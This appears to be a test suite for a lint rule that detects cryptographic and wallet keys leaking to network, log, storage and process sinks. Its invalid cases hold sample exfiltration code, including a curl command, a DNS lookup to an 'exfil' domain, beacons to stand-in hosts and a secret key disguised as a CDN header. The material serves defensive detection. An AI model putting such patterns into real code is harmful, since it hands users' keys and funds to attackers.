import rule from '../../rules/no-key-exfiltration.js';
import { createRuleTester, STRICT } from '../rule-tester.js';

const ruleTester = createRuleTester();
const strictTester = createRuleTester(STRICT);

const NODE = "import crypto from 'node:crypto';\n";
const PAIR = `${NODE}const { privateKey, publicKey } = crypto.generateKeyPairSync('ed25519');\n`;

ruleTester.run('no-key-exfiltration', rule, {
  valid: [
    // public keys, metadata, fingerprints and key ids
    { name: 'public key exported and sent', code: `${PAIR}fetch('/register', { method: 'POST', body: publicKey.export({ type: 'spki', format: 'pem' }) });` },
    { name: 'public half of a key pair object', code: `${NODE}const pair = crypto.generateKeyPairSync('rsa', { modulusLength: 3072 });\nconsole.log(pair.publicKey);` },
    { name: 'key type and size logged', code: `${PAIR}console.log(privateKey.asymmetricKeyType, privateKey.type, privateKey.asymmetricKeyDetails);` },
    { name: 'length of an exported key logged', code: `${PAIR}console.log(privateKey.export({ type: 'pkcs8', format: 'der' }).length);` },
    {
      name: 'fingerprint (hash) of a key sent',
      code: `${PAIR}const fp = crypto.createHash('sha256').update(privateKey.export({ type: 'pkcs8', format: 'der' })).digest('hex');\nfetch('/fp', { body: fp });`,
    },
    { name: 'key id sent', code: `${NODE}const key = crypto.createPrivateKey(pem);\nconst jwk = key.export({ format: 'jwk' });\nfetch('/kid', { body: jwk.kid });` },
    { name: 'Web Crypto public key exported', code: "const pair = await crypto.subtle.generateKey({ name: 'ECDSA', namedCurve: 'P-256' }, true, ['sign']);\nconst spki = await crypto.subtle.exportKey('spki', pair.publicKey);\nawait fetch('/pub', { method: 'POST', body: spki });" },
    { name: 'signature sent', code: "const pair = await crypto.subtle.generateKey({ name: 'ECDSA', namedCurve: 'P-256' }, true, ['sign']);\nconst sig = await crypto.subtle.sign({ name: 'ECDSA', hash: 'SHA-256' }, pair.privateKey, data);\nawait fetch('/sig', { method: 'POST', body: sig });" },
    { name: 'Solana public key logged', code: "import { Keypair } from '@solana/web3.js';\nconst kp = Keypair.generate();\nconsole.log(kp.publicKey.toBase58());" },
    { name: 'ethers address sent', code: "import { Wallet } from 'ethers';\nconst w = Wallet.createRandom();\nfetch('/addr', { method: 'POST', body: w.address });" },
    // cleansing by wrapping and encryption
    {
      name: 'key wrapped under a runtime key before upload',
      code: "const kek = await crypto.subtle.generateKey({ name: 'AES-KW', length: 256 }, false, ['wrapKey']);\nconst dataKey = await crypto.subtle.generateKey({ name: 'AES-GCM', length: 256 }, true, ['encrypt']);\nconst wrapped = await crypto.subtle.wrapKey('raw', dataKey, kek, 'AES-KW');\nawait fetch('/keys', { method: 'PUT', body: wrapped });",
    },
    {
      name: 'private key exported with cipher and passphrase, then written',
      code: `${PAIR}import fs from 'node:fs';\nconst pem = privateKey.export({ type: 'pkcs8', format: 'pem', cipher: 'aes-256-cbc', passphrase: process.env.KEY_PASSPHRASE });\nfs.writeFileSync('key.pem', pem);`,
    },
    {
      name: 'key encrypted to a runtime recipient',
      code: `${PAIR}const ct = crypto.publicEncrypt(recipientPem, privateKey.export({ type: 'pkcs8', format: 'der' }));\nfetch('/backup', { method: 'POST', body: ct });`,
    },
    {
      name: 'data encrypted under a generated key, ciphertext sent',
      code: `${NODE}const key = crypto.randomBytes(32);\nconst iv = crypto.randomBytes(12);\nconst c = crypto.createCipheriv('aes-256-gcm', key, iv);\nconst ct = Buffer.concat([c.update(msg), c.final()]);\nfetch('/m', { method: 'POST', body: ct });`,
    },
    // no key at all
    { name: 'a loop variable named key', code: "import crypto from 'crypto';\nfor (const key of Object.keys(obj)) console.log(key);" },
    { name: 'an API key is not a crypto key', code: "import crypto from 'crypto';\nconst apiKey = process.env.API_KEY;\nfetch('/x', { headers: { authorization: apiKey } });" },
    { name: 'a key path name', code: "const privateKeyPath = '/etc/ssl/key.pem';\nconsole.log('reading', privateKeyPath);" },
    { name: 'a helper called with harmless data only', code: `${PAIR}function send(data) { navigator.sendBeacon('/t', data); }\nsend('hello');` },
    { name: 'a key used locally only', code: `${PAIR}const sig = crypto.sign(null, Buffer.from('m'), privateKey);\nconsole.log(sig.toString('base64'));` },
    // options
    {
      name: 'allowed destination (own KMS)',
      code: `${PAIR}fetch('https://kms.internal.example/v1/keys', { method: 'POST', body: privateKey.export({ type: 'pkcs8', format: 'pem' }) });`,
      options: [{ allowedDestinations: ['https://kms.internal.example/'], sinkKinds: ['network', 'log', 'storage', 'process'] }],
    },
    {
      name: 'allowed destination by host name',
      code: `${PAIR}const KMS = 'https://kms.internal.example/v1/keys';\nfetch(KMS, { method: 'POST', body: privateKey.export({ type: 'pkcs8', format: 'pem' }) });`,
      options: [{ allowedDestinations: ['kms.internal.example'], sinkKinds: ['network'] }],
    },
    {
      name: 'sink kind not selected',
      code: `${PAIR}console.log(privateKey.export({ type: 'pkcs8', format: 'pem' }));`,
      options: [{ sinkKinds: ['network'], allowedDestinations: [] }],
    },
    { name: 'thrown error messages only under strict', code: `${NODE}const k = crypto.pbkdf2Sync(pw, salt, 600000, 32, 'sha256');\nthrow new Error('bad key ' + k.toString('hex'));` },
    { name: 'file without any source', code: "fetch('/x', { body: JSON.stringify(data) }); console.log(user);" },
    { name: 'worker postMessage is not a sink', code: `${PAIR}worker.postMessage(privateKey);` },
    // string coercion: an object holding a key under a named property prints as [object Object]
    {
      name: 'object holding a key interpolated into a log line',
      code: `${PAIR}const auth = { type: 'publickey', key: privateKey };\nconsole.log(\`trying \${auth}\`);`,
    },
    { name: 'object holding a key concatenated into a log line', code: `${PAIR}const auth = { type: 'publickey', key: privateKey };\nconsole.log('trying ' + auth);` },
    { name: 'object holding a key appended to a string with +=', code: `${PAIR}const auth = { key: privateKey };\nlet line = 'auth: ';\nline += auth;\nconsole.log(line);` },
    {
      // ssh2 client: `type` is read from a variable later reassigned to { type, key } (the graph is flow-insensitive)
      name: 'auth method name of a reassigned auth object, logged directly and through a helper',
      code: [
        "const { parseKey } = require('ssh2').utils;",
        'function connect(config, debug, authHandler) {',
        '  let privateKey = parseKey(config.privateKey);',
        '  let nextAuth = authHandler();',
        '  function skipAuth(msg) { debug(msg); }',
        "  if (typeof nextAuth === 'string') {",
        '    const type = nextAuth;',
        '    if (!allowed.includes(type)) skipAuth(`Authentication method not allowed: ${type}`);',
        '    nextAuth = { type, username, key: privateKey };',
        '  }',
        '  const curAuth = nextAuth;',
        '  debug(`Client: ${curAuth.type} auth failed`);',
        '}',
      ].join('\n'),
    },
  ],
  invalid: [
    {
      name: 'generateKeyPairSync private key in a telemetry header',
      code: `${PAIR}const pem = privateKey.export({ type: 'pkcs8', format: 'pem' });\nfetch('https://t.example/v1', { method: 'POST', headers: { 'x-telemetry': pem } });`,
      errors: [
        {
          messageId: 'keyExfiltration',
          line: 4,
          column: 58,
          data: {
            source: 'Private key from crypto.generateKeyPairSync',
            line: '2',
            sink: 'fetch()',
            part: ' headers',
            kind: 'network',
            note: '',
            helper: '',
            sinkLine: '4',
          },
        },
      ],
    },
    {
      name: 'array holding a key interpolated into a template (Array#toString joins its elements)',
      code: `${PAIR}const parts = ['k', privateKey.export({ type: 'pkcs8', format: 'pem' })];\nconsole.log(\`\${parts}\`);`,
      errors: [{ messageId: 'keyExfiltration', line: 4 }],
    },
    {
      name: 'key property of an object interpolated into a template',
      code: `${PAIR}const auth = { type: 'publickey', key: privateKey.export({ type: 'pkcs8', format: 'pem' }) };\nconsole.log('auth ' + auth.key);`,
      errors: [{ messageId: 'keyExfiltration', line: 4 }],
    },
    {
      name: 'key pair object serialised into a body',
      code: `${NODE}const pair = crypto.generateKeyPairSync('rsa', { modulusLength: 3072 });\nfetch('/x', { method: 'POST', body: JSON.stringify(pair) });`,
      errors: [{ messageId: 'keyExfiltration', line: 3 }],
    },
    {
      name: 'generateKeyPair callback private key',
      code: `${NODE}crypto.generateKeyPair('ec', { namedCurve: 'P-256' }, (err, pub, priv) => {\n  fetch('/pub', { body: pub.export({ type: 'spki', format: 'pem' }) });\n  fetch('/priv', { body: priv.export({ type: 'pkcs8', format: 'pem' }) });\n});`,
      errors: [{ messageId: 'keyExfiltration', line: 4 }],
    },
    {
      name: 'Web Crypto generateKey then exportKey jwk uploaded (then callback)',
      code: "crypto.subtle.generateKey({ name: 'AES-GCM', length: 256 }, true, ['encrypt']).then(async (key) => {\n  const jwk = await crypto.subtle.exportKey('jwk', key);\n  await fetch('/upload', { method: 'POST', body: JSON.stringify(jwk) });\n});",
      errors: [{ messageId: 'keyExfiltration', line: 3, data: { source: 'Secret key from crypto.subtle.generateKey', line: '1', sink: 'fetch()', part: ' body', kind: 'network', note: '', helper: '', sinkLine: '3' } }],
    },
    {
      name: 'Web Crypto private key of a pair, destructured',
      code: "const { privateKey } = await crypto.subtle.generateKey({ name: 'ECDH', namedCurve: 'P-256' }, true, ['deriveBits']);\nconst pkcs8 = await crypto.subtle.exportKey('pkcs8', privateKey);\nnavigator.sendBeacon('/b', pkcs8);",
      errors: [{ messageId: 'keyExfiltration', line: 3 }],
    },
    {
      name: 'derived key (scrypt) logged',
      code: `${NODE}const key = crypto.scryptSync(password, salt, 32);\nconsole.log('derived', key.toString('hex'));`,
      errors: [{ messageId: 'keyExfiltration', line: 3, column: 24 }],
    },
    {
      name: 'pbkdf2 callback key',
      code: `${NODE}crypto.pbkdf2(pw, salt, 600000, 32, 'sha256', (err, dk) => { localStorage.setItem('dk', dk.toString('base64')); });`,
      errors: [{ messageId: 'keyExfiltration', line: 2 }],
    },
    {
      name: 'hkdfSync key sent',
      code: `${NODE}const k = crypto.hkdfSync('sha256', ikm, salt, info, 32);\nfetch('/k', { method: 'POST', body: Buffer.from(k) });`,
      errors: [{ messageId: 'keyExfiltration', line: 3 }],
    },
    {
      name: 'ECDH shared secret logged',
      code: `${NODE}const ecdh = crypto.createECDH('prime256v1');\necdh.generateKeys();\nconst shared = ecdh.computeSecret(peer);\nconsole.log(shared.toString('base64'));`,
      errors: [{ messageId: 'keyExfiltration', line: 5 }],
    },
    {
      name: 'diffieHellman shared secret',
      code: `${NODE}const s = crypto.diffieHellman({ privateKey: a, publicKey: b });\nfetch('/s', { method: 'POST', body: s });`,
      errors: [{ messageId: 'keyExfiltration', line: 3 }],
    },
    {
      name: 'Web Crypto deriveBits',
      code: "const bits = await crypto.subtle.deriveBits({ name: 'ECDH', public: peer }, mine, 256);\nawait fetch('/b', { method: 'POST', body: new Uint8Array(bits) });",
      errors: [{ messageId: 'keyExfiltration', line: 2 }],
    },
    {
      name: 'createSecretKey result exported',
      code: `${NODE}const k = crypto.createSecretKey(material);\naxios.post('/k', { k: k.export().toString('base64') });`,
      errors: [{ messageId: 'keyExfiltration', line: 3 }],
    },
    {
      name: 'randomBytes named as a key',
      code: `${NODE}const sessionKey = crypto.randomBytes(32);\nfetch('/s', { method: 'POST', body: sessionKey.toString('hex') });`,
      errors: [{ messageId: 'keyExfiltration', line: 3 }],
    },
    {
      name: 'value used as a cipher key also sent (role source)',
      code: `${NODE}const k = crypto.randomBytes(32);\nconst c = crypto.createCipheriv('aes-256-gcm', k, crypto.randomBytes(12));\nfetch('/k', { method: 'POST', body: k });`,
      errors: [{ messageId: 'keyExfiltration', line: 4, data: { source: 'Key used by crypto.createCipheriv', line: '3', sink: 'fetch()', part: ' body', kind: 'network', note: '', helper: '', sinkLine: '4' } }],
    },
    {
      name: 'Solana secretKey in a header (the 1.95.6 shape)',
      code: "import { Keypair } from '@solana/web3.js';\nconst kp = Keypair.fromSecretKey(bytes);\nfetch('https://sol-rpc.example/api', { headers: { 'x-amz-cf-id': Buffer.from(kp.secretKey).toString('base64') } });",
      errors: [{ messageId: 'keyExfiltration', line: 3, data: { source: 'Secret key from Keypair.fromSecretKey', line: '2', sink: 'fetch()', part: ' headers', kind: 'network', note: '', helper: '', sinkLine: '3' } }],
    },
    {
      name: 'alternative sources on one line are one report',
      code: "import { Keypair } from '@solana/web3.js';\nconst kp = seed ? Keypair.fromSecretKey(seed) : Keypair.generate();\nconsole.log(kp.secretKey);",
      errors: [{ messageId: 'keyExfiltration', line: 3, data: { source: 'Secret key from Keypair.fromSecretKey or Keypair.generate', line: '2', sink: 'console.log()', part: '', kind: 'log', note: '', helper: '', sinkLine: '3' } }],
    },
    {
      name: 'ethers private key via axios',
      code: "import { ethers } from 'ethers';\nconst w = ethers.Wallet.createRandom();\naxios.post('https://collector.example/', { pk: w.privateKey });",
      errors: [{ messageId: 'keyExfiltration', line: 3 }],
    },
    {
      name: 'ethers mnemonic phrase logged',
      code: "const { Wallet } = require('ethers');\nconst w = Wallet.createRandom();\nconsole.log(w.mnemonic.phrase);",
      errors: [{ messageId: 'keyExfiltration', line: 3 }],
    },
    {
      name: 'bip39 mnemonic in localStorage',
      code: "import * as bip39 from 'bip39';\nconst m = bip39.generateMnemonic();\nlocalStorage.setItem('m', m);",
      errors: [{ messageId: 'keyExfiltration', line: 3 }],
    },
    {
      name: 'name-only source, lower confidence',
      code: "const config = loadConfig();\nfetch('/c', { method: 'POST', body: config.privateKey });",
      errors: [{ messageId: 'keyExfiltration', line: 2, data: { source: "A value named 'privateKey'", line: '2', sink: 'fetch()', part: ' body', kind: 'network', note: ' (the source is recognised by its name only: lower confidence)', helper: '', sinkLine: '2' } }],
    },
    {
      // The text must still name a key somewhere for the file to be analysed (docs/limitations.md).
      name: 'name-only source under a key spelled with escapes',
      code: "const { privateKey } = loadKeys();\nsign(privateKey);\nfetch('/c', { method: 'POST', body: config['private\\x4bey'] });",
      errors: [{ messageId: 'keyExfiltration', line: 3, data: { source: "A value named 'privateKey'", line: '3', sink: 'fetch()', part: ' body', kind: 'network', note: ' (the source is recognised by its name only: lower confidence)', helper: '', sinkLine: '3' } }],
    },
    {
      name: 'name-only source under a property name spelled with escapes',
      code: "const { privateKey } = loadKeys();\nsign(privateKey);\nfetch('/c', { method: 'POST', body: config.private\\u004bey });",
      errors: [{ messageId: 'keyExfiltration', line: 3, data: { source: "A value named 'privateKey'", line: '3', sink: 'fetch()', part: ' body', kind: 'network', note: ' (the source is recognised by its name only: lower confidence)', helper: '', sinkLine: '3' } }],
    },
    {
      name: 'name-only parameter source',
      code: 'export function backup(seedPhrase) {\n  navigator.sendBeacon("/b", seedPhrase);\n}',
      errors: [{ messageId: 'keyExfiltration', line: 2 }],
    },
    {
      name: 'helper that sinks: reported at the call that passes the key',
      code: `${PAIR}function addToQueue(data) {\n  fetch('https://sol-rpc.example/q', { headers: { 'x-amz-cf-id': data } });\n}\naddToQueue('ping');\naddToQueue(privateKey.export({ type: 'pkcs8', format: 'pem' }));`,
      errors: [
        {
          messageId: 'keyExfiltrationViaHelper',
          line: 7,
          column: 1,
          data: {
            source: 'Private key from crypto.generateKeyPairSync',
            line: '2',
            sink: 'fetch()',
            part: ' headers',
            kind: 'network',
            note: '',
            helper: 'addToQueue()',
            sinkLine: '4',
          },
        },
      ],
    },
    {
      name: 'two-level helper chain reported at the outermost call',
      code: `${PAIR}function post(body) { return fetch('/x', { method: 'POST', body }); }\nfunction report(value) { return post(JSON.stringify({ value })); }\nreport(privateKey);`,
      errors: [{ messageId: 'keyExfiltrationViaHelper', line: 5 }],
    },
    {
      name: 'helper that returns an encoding (param to return), sunk in the caller',
      code: `${PAIR}function b64(x) { return Buffer.from(x.export({ format: 'der', type: 'pkcs8' })).toString('base64'); }\nconst encoded = b64(privateKey);\nconsole.log(encoded);`,
      errors: [{ messageId: 'keyExfiltration', line: 5 }],
    },
    {
      name: 'this.key across methods (debug toString)',
      code: `${NODE}class Vault {\n  constructor() { this.key = crypto.generateKeySync('aes', { length: 256 }); }\n  toString() { return \`Vault(\${this.key.export().toString('hex')})\`; }\n  dump() { console.debug(this.toString()); }\n}`,
      errors: [{ messageId: 'keyExfiltration', line: 5 }],
    },
    {
      name: 'crash reporter serialising an object holding a key',
      code: `${PAIR}import * as Sentry from '@sentry/node';\nconst session = { user: 'a', key: privateKey };\nprocess.on('uncaughtException', (err) => Sentry.captureException(err, { extra: { session } }));`,
      errors: [{ messageId: 'keyExfiltration', line: 5 }],
    },
    {
      name: 'closure capturing a key, sent later',
      code: `${NODE}const key = crypto.generateKeySync('hmac', { length: 256 });\nsetTimeout(() => { new Image().src = 'https://t.example/p.gif?d=' + key.export().toString('hex'); }, 1000);`,
      errors: [{ messageId: 'keyExfiltration', line: 3 }],
    },
    {
      name: 'property write then object sent',
      code: `${PAIR}const state = {};\nstate.secret = privateKey.export({ type: 'pkcs8', format: 'pem' });\nnavigator.clipboard.writeText(JSON.stringify(state));`,
      errors: [{ messageId: 'keyExfiltration', line: 5 }],
    },
    {
      name: 'array element and spread',
      code: `${PAIR}const parts = ['v1', privateKey];\nconst all = [...parts];\nprocess.stderr.write(all.join(':'));`,
      errors: [{ messageId: 'keyExfiltration', line: 5 }],
    },
    {
      name: 'object spread and destructuring',
      code: `${PAIR}const a = { privateKey };\nconst b = { ...a, note: 'x' };\nconst { privateKey: copy } = b;\nfetch('/x', { method: 'POST', body: copy.export({ format: 'jwk' }).d });`,
      errors: [{ messageId: 'keyExfiltration', line: 6 }],
    },
    {
      name: 'for-of over keys',
      code: `${PAIR}for (const k of [privateKey]) console.info(k);`,
      errors: [{ messageId: 'keyExfiltration', line: 3 }],
    },
    {
      name: 'cookie with a template',
      code: `${NODE}const k = crypto.generateKeySync('aes', { length: 128 });\ndocument.cookie = \`k=\${k.export().toString('base64')}\`;`,
      errors: [{ messageId: 'keyExfiltration', line: 3 }],
    },
    {
      name: 'DNS lookup of a built hostname',
      code: `${NODE}import dns from 'node:dns';\nconst k = crypto.generateKeySync('aes', { length: 128 });\ndns.lookup(k.export().toString('hex') + '.exfil.example', () => {});`,
      errors: [{ messageId: 'keyExfiltration', line: 4, data: { source: 'Secret key from crypto.generateKeySync', line: '3', sink: 'dns.lookup()', part: ' hostname', kind: 'network', note: '', helper: '', sinkLine: '4' } }],
    },
    {
      name: 'child process argument',
      code: `${NODE}import { execSync } from 'child_process';\nconst k = crypto.generateKeySync('aes', { length: 128 });\nexecSync('curl -d ' + k.export().toString('hex') + ' https://x');`,
      errors: [{ messageId: 'keyExfiltration', line: 4 }],
    },
    {
      name: 'process.env assignment',
      code: `${PAIR}process.env.SIGNING_KEY = privateKey.export({ type: 'pkcs8', format: 'pem' });`,
      errors: [{ messageId: 'keyExfiltration', line: 3 }],
    },
    {
      name: 'WebSocket send',
      code: `${PAIR}const ws = new WebSocket('wss://x.example');\nws.send(JSON.stringify({ t: 'hello', k: privateKey }));`,
      errors: [{ messageId: 'keyExfiltration', line: 4 }],
    },
    {
      name: 'XHR setRequestHeader',
      code: `${PAIR}const xhr = new XMLHttpRequest();\nxhr.open('POST', '/x');\nxhr.setRequestHeader('X-K', privateKey.export({ format: 'pem', type: 'pkcs8' }));`,
      errors: [{ messageId: 'keyExfiltration', line: 5 }],
    },
    {
      name: 'https.request write',
      code: `${PAIR}import https from 'node:https';\nconst req = https.request('https://x.example', { method: 'POST' });\nreq.end(privateKey.export({ format: 'pem', type: 'pkcs8' }));`,
      errors: [{ messageId: 'keyExfiltration', line: 5 }],
    },
    {
      name: 'pino logger',
      code: `${PAIR}import pino from 'pino';\nconst log = pino();\nlog.info({ privateKey }, 'loaded');`,
      errors: [{ messageId: 'keyExfiltration', line: 5 }],
    },
    {
      name: 'fs.writeFileSync of an unencrypted key',
      code: `${PAIR}import { writeFileSync } from 'node:fs';\nwriteFileSync('id.pem', privateKey.export({ type: 'pkcs8', format: 'pem' }));`,
      errors: [{ messageId: 'keyExfiltration', line: 4 }],
    },
    {
      name: 'socket.io emit',
      code: `${PAIR}import { io } from 'socket.io-client';\nconst socket = io('https://x.example');\nsocket.emit('k', privateKey.export({ format: 'jwk' }));`,
      errors: [{ messageId: 'keyExfiltration', line: 5 }],
    },
    {
      name: 'postMessage to the parent frame',
      code: `${PAIR}window.parent.postMessage({ k: privateKey.export({ format: 'jwk' }) }, '*');`,
      errors: [{ messageId: 'keyExfiltration', line: 3 }],
    },
    {
      name: 'encrypted under a constant key is not cleansed',
      code: `${PAIR}const c = crypto.createCipheriv('aes-256-cbc', '0123456789abcdef0123456789abcdef', iv);\nconst out = c.update(privateKey.export({ format: 'pem', type: 'pkcs8' }));\nfetch('/x', { method: 'POST', body: out });`,
      errors: [{ messageId: 'keyExfiltration', line: 5 }],
    },
    {
      name: 'export with a literal passphrase is not cleansed',
      code: `${PAIR}const pem = privateKey.export({ type: 'pkcs8', format: 'pem', cipher: 'aes-256-cbc', passphrase: 'hunter2' });\nfetch('/x', { method: 'POST', body: pem });`,
      errors: [{ messageId: 'keyExfiltration', line: 4 }],
    },
    {
      name: 'one report per source and sink, parts joined',
      code: `${PAIR}const pem = privateKey.export({ type: 'pkcs8', format: 'pem' });\nfetch('/x', { headers: { a: pem }, body: pem });`,
      errors: [{ messageId: 'keyExfiltration', line: 4, data: { source: 'Private key from crypto.generateKeyPairSync', line: '2', sink: 'fetch()', part: ' body and headers', kind: 'network', note: '', helper: '', sinkLine: '4' } }],
    },
    {
      name: 'method of a local class instance',
      code: `${PAIR}class Uploader { send(x) { navigator.sendBeacon('/u', x); } }\nconst u = new Uploader();\nu.send(privateKey.export({ format: 'der', type: 'pkcs8' }));`,
      errors: [{ messageId: 'keyExfiltrationViaHelper', line: 5 }],
    },
    {
      name: 'sink kinds option keeps the chosen kind',
      code: `${PAIR}console.log(privateKey.export({ type: 'pkcs8', format: 'pem' }));`,
      options: [{ sinkKinds: ['log'], allowedDestinations: [] }],
      errors: [{ messageId: 'keyExfiltration' }],
    },
    {
      name: 'allowed destinations do not cover a different host',
      code: `${PAIR}fetch(flag ? 'https://kms.internal.example/k' : 'https://evil.example/k', { method: 'POST', body: privateKey.export({ type: 'pkcs8', format: 'pem' }) });`,
      options: [{ allowedDestinations: ['https://kms.internal.example/'], sinkKinds: ['network'] }],
      errors: [{ messageId: 'keyExfiltration' }],
    },
    {
      name: 'dynamic require and namespace alias',
      code: "const { generateKeyPairSync } = require('crypto');\nconst kp = generateKeyPairSync('x25519');\nconsole.warn(kp.privateKey.export({ format: 'jwk' }));",
      errors: [{ messageId: 'keyExfiltration', line: 3 }],
    },
  ],
});

strictTester.run('no-key-exfiltration (strict)', rule, {
  valid: [
    {
      // @solana/web3.js Ed25519Program: a byte count named like a key
      name: 'numeric constant named like a key in an error message',
      code: "import nacl from 'tweetnacl';\nconst PRIVATE_KEY_BYTES = 64;\nfunction assert(ok, message) { if (!ok) throw new Error(message || 'Assertion failed'); }\nassert(pkey.length === PRIVATE_KEY_BYTES, `Private key must be ${PRIVATE_KEY_BYTES} bytes but received ${pkey.length} bytes`);",
    },
    {
      // noble-curves: `const len = lengths.secretKey` is a size from a table of sizes
      name: 'size read from a key-named property of a table of sizes',
      code: "import nacl from 'tweetnacl';\nconst lengths = { secretKey: 32, publicKey: 32 };\nfunction check(bytes, expected) { if (bytes.length !== expected) throw new Error('expected ' + expected + ' bytes'); }\ncheck(input, lengths.secretKey);",
    },
    { name: 'thrown error without a key', code: `${NODE}const k = crypto.pbkdf2Sync(pw, salt, 600000, 32, 'sha256');\nthrow new Error('bad key length ' + k.length);` },
    {
      name: 'message of the Error a failed key parse returned',
      code: "const { parseKey } = require('ssh2').utils;\nlet privateKey = parseKey(config.privateKey, passphrase);\nif (privateKey instanceof Error) throw new Error(`Cannot parse privateKey: ${privateKey.message}`);",
    },
  ],
  invalid: [
    {
      name: 'bigint constant named like a key (an elliptic-curve private scalar) in an error message',
      code: "import nacl from 'tweetnacl';\nconst PRIVATE_KEY = 0x1f2e3d4c5b6a79881f2e3d4c5b6a79881f2e3d4c5b6a7988n;\nthrow new Error('bad scalar ' + PRIVATE_KEY);",
      errors: [{ messageId: 'keyExfiltration', line: 3 }],
    },
    {
      name: 'thrown error message with a derived key',
      code: `${NODE}const k = crypto.pbkdf2Sync(pw, salt, 600000, 32, 'sha256');\nthrow new Error('bad key ' + k.toString('hex'));`,
      errors: [{ messageId: 'keyExfiltration', line: 3 }],
    },
  ],
});
